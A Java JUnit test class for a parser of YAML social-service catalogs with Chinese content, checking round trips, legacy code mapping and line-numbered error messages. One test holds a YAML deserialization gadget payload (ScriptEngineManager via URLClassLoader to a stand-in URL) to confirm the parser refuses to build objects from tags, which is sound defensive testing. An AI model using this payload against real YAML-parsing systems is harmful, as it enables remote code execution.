package cn.sgz.catalog.internal;

import static org.assertj.core.api.Assertions.assertThat;

import cn.sgz.catalog.CatalogContent;
import cn.sgz.catalog.RuleKind;
import cn.sgz.shared.BusinessException;
import cn.sgz.shared.BusinessException.FieldProblem;
import java.math.BigDecimal;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The YAML format: round trips, and every kind of malformed input answered with its line, in Chinese. */
class CatalogYamlTest {

    static final String SMALL = """
            code: test-2026
            name: 测试服务清单
            region: 测试区
            year: 2026
            tiers:
              - code: TIER_10W
                label: 10万指标值
              - code: TIER_20W
                label: 20万指标值
            groups:
              - code: OPT
                name: 自选任务
                min: 1
                rule: 自选任务共2项，至少选择1项
            tasks:
              - code: T1
                number: "1"
                name: 社会救助
                items:
                  - code: I1
                    name: 为社会救助对象提供服务
                    category: MANDATORY
                    content: |
                      采取入户调查等方式。
                      第二段：宣传社会救助相关政策。
                    indicators:
                      - code: I1.1
                        name: 个案服务
                        kind: CASE_QUOTA
                        period: PROJECT
                        targets: {TIER_10W: 6, TIER_20W: 12}
                        params: {domain: SOCIAL_ASSISTANCE, sessionsEach: 5, unit: 个}
                        standard: 项目期内开展个案服务不少于 12 个
                      - code: I1.2
                        name: 资源链接
                        kind: 活动次数
                        period: 每月
                        targets: {TIER_10W: 1, TIER_20W: 2.5}
                        params:
                          recordKinds: [RESOURCE_LINK, 政策宣传与咨询]
                        value: "≥2次/月"
                  - code: I2
                    name: 自选一
                    category: OPTIONAL
                    group: OPT
                    content: 内容一
                  - code: I3
                    name: 自选二
                    category: 自选
                    group: OPT
                    content: 内容二
                    indicators:
                      - code: I3.1
                        name: 评判
                        kind: CHECKLIST
                        period: PROJECT
                        standard: "冒号: 与 # 号 以及 'yes' 都是文字"
            """;

    @Test
    void readsEveryField() {
        CatalogContent c = CatalogYaml.parse(SMALL);
        assertThat(c.code()).isEqualTo("test-2026");
        assertThat(c.tiers()).hasSize(2);
        assertThat(c.groups().get(0).min()).isEqualTo(1);
        var i11 = c.indicator("I1.1").orElseThrow();
        assertThat(i11.kind()).isEqualTo(RuleKind.CASE_QUOTA);
        assertThat(i11.targets())
                .containsEntry("TIER_10W", new BigDecimal("6"))
                .containsEntry("TIER_20W", new BigDecimal("12"));
        assertThat(i11.params().sessionsEach()).isEqualTo(5);
        var i12 = c.indicator("I1.2").orElseThrow();
        assertThat(i12.kind()).isEqualTo(RuleKind.ACTIVITY_COUNT);
        assertThat(i12.params().recordKinds())
                .extracting(Enum::name)
                .containsExactly("RESOURCE_LINK", "POLICY_SERVICE");
        assertThat(i12.target("TIER_20W")).isEqualByComparingTo("2.5");
        assertThat(c.item("I1").orElseThrow().content()).isEqualTo("采取入户调查等方式。\n第二段：宣传社会救助相关政策。");
        assertThat(c.indicator("I3.1").orElseThrow().standard()).isEqualTo("冒号: 与 # 号 以及 'yes' 都是文字");
    }

    /**
     * One vocabulary of service kinds: a catalog written before it (old activity codes, old labels of either
     * list) still loads, onto the one kind each meant; OTHER is no kind an indicator can count.
     */
    @ParameterizedTest
    @org.junit.jupiter.params.provider.CsvSource({
        "RESOURCE_LINKING, RESOURCE_LINK",
        "资源链接, RESOURCE_LINK",
        "物资帮扶, MATERIAL_AID",
        "物质帮扶, MATERIAL_AID",
        "小组活动, GROUP_SESSION",
        "小组服务, GROUP_SESSION",
        "COMMUNITY_ACTIVITY, COMMUNITY_SERVICE",
        "社区活动, COMMUNITY_SERVICE",
        "CARE_SUPPORT, CARE_SERVICE",
        "照料与康复服务, CARE_SERVICE",
        "PSYCHOSOCIAL_SUPPORT, PSYCHOSOCIAL",
        "CONSULTATION, CONSULTATION_MEETING",
        "POLICY_PUBLICITY, POLICY_SERVICE",
        "回访（上门）, FOLLOW_UP_VISIT",
        "慈善推介, CHARITY_PROMOTION",
        "宣传展示, PUBLICITY",
        "PUBLICITY, PUBLICITY"
    })
    void oldKindCodesAndLabelsStillLoad(String written, String kind) {
        String yaml = SMALL.replace("recordKinds: [RESOURCE_LINK, 政策宣传与咨询]", "recordKinds: [" + written + "]");
        assertThat(CatalogYaml.parse(yaml)
                        .indicator("I1.2")
                        .orElseThrow()
                        .params()
                        .recordKinds())
                .extracting(Enum::name)
                .containsExactly(kind);
    }

    @Test
    void otherIsNoKindAnIndicatorCounts() {
        String bad = SMALL.replace("recordKinds: [RESOURCE_LINK, 政策宣传与咨询]", "recordKinds: [OTHER]");
        assertThat(problems(bad)).anySatisfy(p -> assertThat(p.message()).contains("记录类型“OTHER”无效"));
    }

    @Test
    void exportThenImportGivesTheSameCatalog() {
        CatalogContent c = CatalogYaml.parse(SMALL);
        String exported = CatalogYaml.export(c);
        assertThat(CatalogYaml.parse(exported)).isEqualTo(c);
        assertThat(CatalogYaml.export(CatalogYaml.parse(exported))).isEqualTo(exported);
    }

    @ParameterizedTest
    @ValueSource(strings = {"catalogs/jiuyuan-2024.yaml", "catalogs/zhalainuoer-2026.yaml"})
    void builtInCatalogsRoundTrip(String file) {
        CatalogContent c = CatalogYaml.parse(BuiltinCatalogs.read(file));
        String exported = CatalogYaml.export(c);
        assertThat(CatalogYaml.parse(exported)).isEqualTo(c);
    }

    @Test
    void syntaxErrorNamesLineAndColumn() {
        String bad = "code: x\nname: 名称\ntiers:\n  - code: A\n   label: 错误缩进\n";
        assertThat(problems(bad))
                .anySatisfy(p -> assertThat(p.message()).startsWith("第5行").contains("YAML 格式错误"));
    }

    @Test
    void unknownKindIsReportedOnItsLine() {
        String bad = SMALL.replace("kind: CASE_QUOTA", "kind: CASE_COUNT");
        int line = lineOf(SMALL, "kind: CASE_QUOTA");
        assertThat(problems(bad)).anySatisfy(p -> {
            assertThat(p.field()).isEqualTo("第" + line + "行");
            assertThat(p.message())
                    .isEqualTo("第" + line + "行：规则类型“CASE_COUNT”无效，可选："
                            + cn.sgz.shared.vocabulary.Labelled.allowed(RuleKind.values()));
        });
    }

    @Test
    void everyProblemIsListedAtOnce() {
        String bad = SMALL.replace("targets: {TIER_10W: 6, TIER_20W: 12}", "targets: {TIER_10W: 六}")
                .replace("sessionsEach: 5, unit: 个", "unit: 个")
                .replaceFirst("group: OPT(\\s+content: 内容一)", "group: NOPE$1")
                .replace("- code: I1.2", "- code: I1.1")
                .replace("        value: \"≥2次/月\"", "        value: \"≥2次/月\"\n        colour: red");
        List<String> messages =
                problems(bad).stream().map(FieldProblem::message).toList();
        assertThat(messages).anySatisfy(m -> assertThat(m).matches("第\\d+行：目标值应为数字，而不是“六”"));
        assertThat(messages).anySatisfy(m -> assertThat(m).matches("第\\d+行：缺少“20万指标值”（TIER_20W）的目标值"));
        assertThat(messages).anySatisfy(m -> assertThat(m).contains("需要指明每个的最少节数（sessionsEach）"));
        assertThat(messages).anySatisfy(m -> assertThat(m).contains("选择规则“NOPE”未在 groups 中定义"));
        assertThat(messages).anySatisfy(m -> assertThat(m).matches("第\\d+行：指标编码“I1.1”重复（已在第\\d+行使用）"));
        assertThat(messages).anySatisfy(m -> assertThat(m).matches("第\\d+行：未知字段“colour”.*"));
    }

    @Test
    void selectionRuleNeedsEnoughItemsAndCoverageIsAPercentage() {
        String bad = SMALL.replace("min: 1", "min: 3")
                .replace("kind: CASE_QUOTA", "kind: COVERAGE")
                .replace("targets: {TIER_10W: 6, TIER_20W: 12}", "targets: {TIER_10W: 100, TIER_20W: 120}");
        List<String> messages =
                problems(bad).stream().map(FieldProblem::message).toList();
        assertThat(messages).anySatisfy(m -> assertThat(m).contains("“自选任务”要求至少选择3项，但只有2项可选"));
        assertThat(messages).anySatisfy(m -> assertThat(m).contains("覆盖率目标是百分比，不能超过100"));
    }

    @Test
    void emptyAndNonMappingInputsAreRejected() {
        assertThat(problems("   "))
                .singleElement()
                .satisfies(p -> assertThat(p.message()).isEqualTo("第1行：文件内容为空"));
        assertThat(problems("- a\n- b\n"))
                .singleElement()
                .satisfies(p -> assertThat(p.message()).isEqualTo("第1行：服务清单应为“字段: 值”的映射"));
        assertThat(problems("code: x\nname: y\n"))
                .extracting(FieldProblem::message)
                .anySatisfy(m -> assertThat(m).contains("档位（tiers）不能为空"))
                .anySatisfy(m -> assertThat(m).contains("主要任务（tasks）不能为空"));
    }

    @Test
    void objectTagsAreNotConstructed() {
        String evil =
                "code: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n";
        assertThat(problems(evil)).isNotEmpty();
    }

    static List<FieldProblem> problems(String yaml) {
        try {
            CatalogYaml.parse(yaml);
        } catch (BusinessException e) {
            assertThat(e.code()).isEqualTo("CATALOG_INVALID");
            return e.problems();
        }
        throw new AssertionError("expected the file to be rejected");
    }

    static int lineOf(String text, String fragment) {
        int idx = text.indexOf(fragment);
        return (int) text.substring(0, idx).chars().filter(ch -> ch == '\n').count() + 1;
    }
}
